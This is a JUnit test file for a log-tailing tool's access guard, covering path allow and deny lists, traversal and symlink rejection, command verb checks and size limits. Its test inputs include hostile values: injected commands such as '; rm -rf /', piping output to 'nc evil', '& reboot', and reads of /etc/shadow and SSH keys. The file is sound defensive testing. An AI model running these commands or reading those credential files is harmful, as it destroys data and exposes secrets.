// Copyright 2023-2025 Phase Five LLC.  For license terms, see LICENSE.txt in the repository root.

package io.pfive.logtail.guard;

import io.pfive.logtail.util.Ret;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class AccessGuardTest {

    static final List<String> ALLOWED = List.of("/var/log", "/opt/app/logs/");

    private static Violation violation (Ret<?> ret) {
        return assertInstanceOf(AccessGuard.Rejection.class, ret).violation;
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "/var/log/app.log",
        "/var/log/nginx/access.log",
        "/opt/app/logs/server.log",
        "/var/log//./app.log",
        "/var/log"
    })
    void pathsInsideAllowedPrefixAreAccepted (String path) {
        Ret<String> ret = AccessGuard.validatePath(path, ALLOWED);
        assertTrue(ret.isOk(), ret::toString);
        assertTrue(ret.get().startsWith("/var/log") || ret.get().startsWith("/opt/app/logs"));
    }

    @Test
    void pathIsNormalized () {
        assertEquals("/var/log/app.log", AccessGuard.validatePath("/var//log/./app.log", ALLOWED).get());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "/var/log/../../etc/hosts",
        "/var/log/..",
        "/var/log/app/../app.log",
        "/opt/app/logs/../secret.txt"
    })
    void parentSegmentsAreRejected (String path) {
        assertTrue(AccessGuard.validatePath(path, ALLOWED).isErr());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "/var/logs/app.log",
        "/var/lo",
        "/home/user/app.log",
        "/opt/app/logs2/server.log",
        "relative/app.log",
        ""
    })
    void pathsOutsideAllowedPrefixesAreRejected (String path) {
        assertEquals(Violation.PATH_OUTSIDE_WHITELIST, violation(AccessGuard.validatePath(path, ALLOWED)));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "/etc/shadow",
        "/etc/passwd",
        "/root/.ssh/authorized_keys",
        "/proc/self/environ",
        "/home/app/.ssh/id_rsa",
        "/srv/tls/server.key",
        "/srv/tls/server.PEM"
    })
    void denyListWinsOverAllowList (String path) {
        assertEquals(Violation.PATH_DENYLISTED, violation(AccessGuard.validatePath(path, List.of("/"))));
    }

    @Test
    void noAllowedPrefixesRejectsEverything () {
        assertEquals(Violation.PATH_OUTSIDE_WHITELIST, violation(AccessGuard.validatePath("/var/log/a.log", List.of())));
        assertEquals(Violation.PATH_OUTSIDE_WHITELIST, violation(AccessGuard.validatePath("/var/log/a.log", null)));
    }

    @Test
    void localSymlinkOutOfWhitelistIsRejected (@TempDir Path temp) throws Exception {
        Path allowed = Files.createDirectory(temp.resolve("logs"));
        Path outside = Files.createDirectory(temp.resolve("private"));
        Path secret = Files.writeString(outside.resolve("secret.log"), "x\n");
        Path link = allowed.resolve("innocent.log");
        Files.createSymbolicLink(link, secret);
        Path real = Files.writeString(allowed.resolve("real.log"), "x\n");

        List<String> prefixes = List.of(allowed.toString());
        assertEquals(Violation.PATH_OUTSIDE_WHITELIST, violation(AccessGuard.validateLocalPath(link, prefixes)));
        assertEquals(real.toRealPath(), AccessGuard.validateLocalPath(real, prefixes).get());
        assertTrue(AccessGuard.validateLocalPath(allowed.resolve("..").resolve("private/secret.log"), prefixes).isErr());
    }

    @Test
    void localPathNotYetCreatedIsCheckedLexically (@TempDir Path temp) {
        Path future = temp.resolve("later.log");
        Ret<Path> ret = AccessGuard.validateLocalPath(future, List.of(temp.toString()));
        assertTrue(ret.isOk(), ret::toString);
    }

    @Test
    void whitelistedCommandIsAccepted () {
        Ret<List<String>> ret = AccessGuard.validateCommand("tail -n 10 /var/log/app.log", AccessGuard.DEFAULT_ALLOWED_VERBS);
        assertEquals(List.of("tail", "-n", "10", "/var/log/app.log"), ret.get());
        assertTrue(AccessGuard.validateCommand("find /var/log -maxdepth 1 -type f -name *.log", AccessGuard.DEFAULT_ALLOWED_VERBS).isOk());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "tail -f /var/log/app.log; rm -rf /",
        "tail -f /var/log/app.log | nc evil 1",
        "tail -f /var/log/app.log & reboot",
        "cat `whoami`",
        "cat $HOME/.bashrc",
        "cat /var/log/a.log > /tmp/copy",
        "cat < /etc/shadow",
        "tail /var/log/a.log\nreboot"
    })
    void metacharactersAreRejectedRegardlessOfVerb (String command) {
        assertEquals(Violation.COMMAND_HAS_METACHARACTER,
            violation(AccessGuard.validateCommand(command, AccessGuard.DEFAULT_ALLOWED_VERBS)));
    }

    @ParameterizedTest
    @ValueSource(strings = {"rm -rf /var/log", "truncate -s 0 /var/log/a.log", "bash", "  ", "tailx /var/log/a.log"})
    void verbsOutsideWhitelistAreRejected (String command) {
        assertEquals(Violation.COMMAND_VERB_NOT_ALLOWED,
            violation(AccessGuard.validateCommand(command, AccessGuard.DEFAULT_ALLOWED_VERBS)));
    }

    @Test
    void verbWhitelistIsTheCallers () {
        assertEquals(Violation.COMMAND_VERB_NOT_ALLOWED,
            violation(AccessGuard.validateCommand("cat /var/log/a.log", Set.of("tail"))));
    }

    @Test
    void fileSizeCheck () {
        assertEquals(Violation.SIZE_EXCEEDED, violation(AccessGuard.checkFileSize(209715200, 104857600)));
        assertEquals(1024L, AccessGuard.checkFileSize(1024, 104857600).get());
        assertTrue(AccessGuard.checkFileSize(104857600, 104857600).isOk());
    }

    @Test
    void requireThrowsWithViolation () {
        SecurityViolationException e = assertThrows(SecurityViolationException.class,
            () -> AccessGuard.require(AccessGuard.validatePath("/etc/shadow", List.of("/"))));
        assertEquals(Violation.PATH_DENYLISTED, e.violation);
        assertTrue(e.getMessage().startsWith("path-denylisted"));
    }
}
